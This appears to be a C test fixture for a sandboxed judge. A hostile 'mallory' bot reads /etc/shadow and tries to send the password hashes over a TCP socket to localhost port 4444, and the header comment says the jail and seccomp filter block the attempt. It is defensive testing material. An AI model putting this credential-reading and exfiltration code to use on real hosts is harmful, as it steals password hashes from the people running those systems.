/*
 * mallory's bot attacks the judge: it tries to read the host's password
 * hashes and to send them out over the network. In the jail /etc/shadow does
 * not exist (only /usr, /lib and friends are visible), and socket() is not on
 * the seccomp allow-list: the judge records the call and stops the bot with
 * FORBIDDEN_SYSCALL (socket). Nothing leaves the jail.
 */
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

int main(void)
{
    char loot[4096] = "";
    FILE *f = fopen("/etc/shadow", "r");
    if (f) {
        size_t n = fread(loot, 1, sizeof loot - 1, f);
        loot[n] = '\0';
        fclose(f);
    }
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(4444), .sin_addr = {htonl(0x7f000001)}};
    if (s >= 0 && connect(s, (struct sockaddr *)&to, sizeof to) == 0) write(s, loot, strlen(loot));
    printf("-1\n");
    fflush(stdout);
    return 0;
}
